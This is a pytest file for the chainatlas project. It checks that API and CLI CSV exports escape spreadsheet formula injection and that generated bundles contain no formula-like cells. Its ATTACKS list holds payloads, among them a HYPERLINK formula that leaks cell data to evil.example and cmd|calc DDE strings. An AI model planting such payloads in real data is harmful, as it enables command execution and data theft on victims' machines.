"""Formula injection in exports (issue 12, finding 4): names and edge properties that a
spreadsheet would run (``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0``, ``@SUM``, ``-1+2``, a tab or
CR first) come out of every CSV the project writes as text, on both stores, over HTTP and from
the CLI; numbers stay numbers.

The CSV files the project writes today are the export's ``nodes.csv`` and ``edges.csv``
(``GET /api/export?format=csv``, ``chainatlas export csv``), all written by
:mod:`chainatlas.graph.sheets`. The demo bundle and the generator write bundles meant to be
read back by the loader, not exports; the last test checks that they hold no formula-like
cell at all.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from chainatlas.api.cli.app import app as cli_app
from chainatlas.graph.model import Table
from chainatlas.graph.sheets import is_formula_like
from chainatlas.graph.store import GraphStore
from chainatlas.loaders.demo import demo_bundle_path
from chainatlas.loaders.generate import generate_bundle
from tests.support.api import auth, client, reference_tables
from tests.support.bundles import csv_rows
from tests.support.hostile_files import GOOD

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "\t=1+2",
    "\r=1+2",
]


def _zip_rows(data: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {
            name: list(csv.DictReader(io.StringIO(z.read(name).decode("utf-8-sig"), newline="")))
            for name in z.namelist()
        }


@pytest.fixture
def hostile_store(store: GraphStore) -> GraphStore:
    """The reference network with six firms named like attacks, and a cooperation's note."""
    tables = reference_tables()
    for row, name in zip(tables[Table.ENTERPRISES], ATTACKS, strict=False):
        row["name"] = name
    tables[Table.COOPERATIONS][0]["note"] = ATTACKS[1]
    store.write_tables(tables)
    return store


def test_the_api_csv_export_writes_attacks_as_text(hostile_store: GraphStore) -> None:
    with client(hostile_store) as c:
        answer = c.get("/api/export", params={"format": "csv"}, headers=auth("viewer"))
    assert answer.status_code == 200
    tables = _zip_rows(answer.content)
    names = {r["id"]: r["name"] for r in tables["nodes.csv"] if r["label"] == "Enterprise"}
    assert sorted(v for v in names.values() if v.startswith("'")) == sorted(
        "'" + a for a in ATTACKS
    )
    cells = [c for rows in tables.values() for r in rows for c in r.values() if c]
    assert not [c for c in cells if is_formula_like(c)]
    notes = [r["note"] for r in tables["edges.csv"] if r.get("note")]
    assert "'" + ATTACKS[1] in notes
    volumes = [r["volume"] for r in tables["edges.csv"] if r.get("volume")]
    assert volumes and all(v[0].isdigit() for v in volumes)  # numbers untouched


def test_the_cli_csv_export_writes_attacks_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "bundle"
    shutil.copytree(GOOD, folder)
    firms = folder / "enterprises.csv"
    rows = csv_rows(firms)
    # a tab or CR first is trimmed by the loader, so a bundle can carry the other four
    for row, name in zip(rows[1:], ATTACKS[:4], strict=False):
        row[1] = name
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    firms.write_text(buf.getvalue(), encoding="utf-8")
    out = tmp_path / "graph.zip"
    result = CliRunner().invoke(
        cli_app, ["export", "csv", "--data", str(folder), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    nodes = _zip_rows(out.read_bytes())["nodes.csv"]
    names = {r["name"] for r in nodes if r["label"] == "Enterprise"}
    assert {"'" + a for a in ATTACKS[:4]} <= names
    assert not [r for r in nodes for c in r.values() if c and is_formula_like(c)]


def test_bundles_the_project_writes_hold_no_formula(tmp_path: Path) -> None:
    generate_bundle(tmp_path, enterprises=50, seed=3)
    for folder in (demo_bundle_path(), tmp_path):
        for path in sorted(folder.glob("*.csv")):
            cells = [c for row in csv_rows(path) for c in row]
            assert not [c for c in cells if is_formula_like(c)], path
